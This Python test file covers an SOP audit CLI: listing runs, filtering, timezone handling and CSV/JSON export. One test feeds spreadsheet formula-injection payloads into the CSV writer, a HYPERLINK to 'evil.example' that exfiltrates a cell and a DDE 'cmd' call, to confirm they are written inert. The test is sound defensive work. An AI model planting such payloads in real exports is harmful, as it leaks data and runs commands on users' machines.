"""An auditor lists what ran: one line per run, narrowed by SOP, class and period, exported as CSV or JSON."""

from __future__ import annotations

import json
from typing import Any

from flows.audit import Audit
from flows.audit.export import from_csv, from_json_rows
from flows.audit.summary import RunLine
from tests.audit.conftest import Scenario


def _run(sop: Any, scenario: Scenario, *args: str, columns: int = 400) -> Any:
    done = sop("audit", "runs", *args, env={"SOP_DATABASE_URL": scenario.url, "COLUMNS": str(columns)})
    assert done.returncode == 0, done.stderr
    return done


def test_every_run_with_its_version_trigger_outcome_and_deadline(sop: Any, scenario: Scenario) -> None:
    out = _run(sop, scenario).stdout
    assert "6 run(s)" in out
    for run_id in scenario.runs.values():
        assert run_id in out
    assert "alert HighErrorRate by alertmanager" in out and "schedule 0 13 * * MON by scheduler" in out
    assert out.count("missed") == 2 and "n/a" in out and "cancelled" in out
    assert "SOP time" in out  # the table says which clock its durations use


def test_on_a_narrow_terminal_the_run_ids_are_whole(sop: Any, scenario: Scenario) -> None:
    out = _run(sop, scenario, columns=80).stdout  # what `sop audit show RUN` takes: never cut to "fc45…"
    assert all(run_id in out for run_id in scenario.runs.values())


def test_filters_by_sop_class_and_period(sop: Any, scenario: Scenario, audit: Audit) -> None:
    routine = json.loads(_run(sop, scenario, "--class", "routine", "--json").stdout)
    assert [r["run"] for r in routine] == [scenario.runs["D"], scenario.runs["E"]]

    def runs(since: str | None = None, until: str | None = None, **filters: str) -> list[str]:
        return [line.run for line in audit.lines(audit.window(since, until), **filters)]

    assert runs(sop="audit-incident") == [scenario.runs[k] for k in "ABCF"]
    # --until a date takes in that whole day; --since an ISO time is UTC unless it says otherwise
    assert runs("2026-03-02T12:30", "2026-03-02") == [scenario.runs[k] for k in "DEF"]
    assert runs("2026-03-02T20:30+08:00") == [scenario.runs[k] for k in "DEF"]
    assert runs("2026-03-03") == []


def test_csv_and_json_exports_round_trip(sop: Any, scenario: Scenario) -> None:
    csv_text = _run(sop, scenario, "--csv").stdout
    json_text = _run(sop, scenario, "--json").stdout
    from_csv_rows = from_csv(csv_text, RunLine)
    from_json = from_json_rows(json_text, RunLine)
    # the open run's duration runs to "now", which moved between the two commands
    assert [r for r in from_csv_rows if r.ended_at] == [r for r in from_json if r.ended_at]
    assert len(from_csv_rows) == 6
    drill = next(r for r in from_csv_rows if r.run == scenario.runs["C"])
    assert (drill.speed, drill.duration_s, drill.escalations, drill.ended_at is not None) == (60.0, 3900.0, 5, True)
    assert csv_text.splitlines()[0] == ("run,sop,version,sop_hash,sop_class,trigger,started_at,ended_at,outcome,"
                                        "deadline,escalations,repeats,speed,duration_s,drill,acknowledged_by,tta_s")
    # who acknowledged each run and how fast, for a quarter in one file: run B's triage, answered by kenji-sato 12
    # minutes after zhao-lei was asked (its time to acknowledge, as sop audit show says)
    late = next(r for r in from_csv_rows if r.run == scenario.runs["B"])
    assert (late.acknowledged_by, late.tta_s) == ("kenji-sato", 12 * 60.0)
    assert "tta_s" in json.loads(json_text)[0] and "acknowledged_by" in json.loads(json_text)[0]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_inert_and_reads_back() -> None:
    from dataclasses import dataclass

    from flows.audit.export import to_csv

    @dataclass
    class Line:
        why: str
        n: int

    texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)",
             "\tx", "'=already quoted", "'plain", "plain", "", "-"]
    written = to_csv([Line(text, -3) for text in texts], ["why", "n"])
    cells = [row.split(",")[0] for row in written.splitlines()[1:]]
    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")) for cell in cells[:-1]), cells
    assert cells[-1] == "-"  # nobody: a dash, as the terminal shows it, not '-
    assert "'=HYPERLINK" in written and ",-3" in written  # a number stays a number
    assert [line.why for line in from_csv(written, Line)] == texts


def _row(out: str, run_id: str) -> str:
    return next(line for line in out.splitlines() if run_id in line)


def test_times_are_in_the_sites_zone_said_in_the_header_or_in_utc_when_asked(sop: Any, scenario: Scenario) -> None:
    shown = _run(sop, scenario).stdout  # config/settings.yaml: timezone Asia/Shanghai; run A started 09:00 UTC
    assert "times Asia/Shanghai, CST (UTC+8)" in shown.splitlines()[0] and "UTC." not in shown
    assert "2026-03-02 17:00:00" in _row(shown, scenario.runs["A"])
    utc = _run(sop, scenario, "--utc").stdout
    assert "times UTC" in utc.splitlines()[0] and "2026-03-02 09:00:00" in _row(utc, scenario.runs["A"])
    story = sop("audit", "show", scenario.runs["A"], "--no-verify", env={"SOP_DATABASE_URL": scenario.url}).stdout
    assert "started 2026-03-02 17:00:00 CST (UTC+8)" in story and "then times Asia/Shanghai, CST (UTC+8)" in story
    # the exports are for machines: ISO 8601 in UTC with the offset, whatever the terminal shows
    exported = json.loads(_run(sop, scenario, "--json").stdout)
    assert next(r for r in exported if r["run"] == scenario.runs["A"])["started_at"] == "2026-03-02T09:00:00+00:00"


def test_a_time_or_a_day_typed_at_the_terminal_is_in_the_zone_its_table_shows(sop: Any, scenario: Scenario) -> None:
    """Run D shows as started 2026-03-02 20:30:00 (CST): typed back as --since, it selected runs from 20:30 UTC (none),
    and a quarter's days were cut at UTC midnight under a table in CST. The desk reads them in its reader's zone."""
    def listed(*args: str) -> list[str]:
        return [r["run"] for r in json.loads(_run(sop, scenario, *args, "--json").stdout)]

    assert listed("--since", "2026-03-02 20:30") == [scenario.runs[k] for k in "DEF"]
    assert listed("--since", "2026-03-02T12:30", "--utc") == [scenario.runs[k] for k in "DEF"]  # the table in UTC
    assert listed("--since", "2026-03-02T20:30+08:00", "--utc") == [scenario.runs[k] for k in "DEF"]  # an offset wins
    assert listed("--since", "2026-03-03") == []  # 2026-03-03 00:00 CST: after run F (22:00 CST)
    assert len(listed("--until", "2026-03-02")) == 6  # the whole day in CST
    shown = _run(sop, scenario, "--since", "2026-03-02").stdout
    assert "from 2026-03-02 00:00 CST (UTC+8)" in shown.splitlines()[0]


def test_csv_and_json_take_a_file_or_write_to_stdout_alike_in_runs_and_report(sop: Any, scenario: Scenario,
                                                                             tmp_path: Any) -> None:
    into = tmp_path / "runs.csv"
    written = _run(sop, scenario, "--csv", str(into))
    assert len(from_csv(into.read_text(), RunLine)) == 6
    assert f"CSV written to {into}" in written.stdout and "6 run(s)" in written.stdout  # the table too
    # the forms scripts use keep working: a flag in `runs` (stdout), `-` in `report`
    assert _run(sop, scenario, "--csv").stdout.startswith("run,sop,version")
    assert _run(sop, scenario, "--csv", "-", "--sop", "audit-routine").stdout.count("\n") == 3
    env = {"SOP_DATABASE_URL": scenario.url}
    alone = sop("audit", "report", "--csv", "--no-verify", env=env)
    assert alone.returncode == 0 and alone.stdout == sop("audit", "report", "--no-verify", "--csv", "-", env=env).stdout
    assert alone.stdout.startswith("scope,key,runs")
    both = sop("audit", "runs", "--json", "--csv", env=env)
    assert both.returncode == 1 and "--json and --csv would all write to stdout" in both.stderr
    assert "give all but one a FILE, e.g. --csv out.csv" in both.stderr
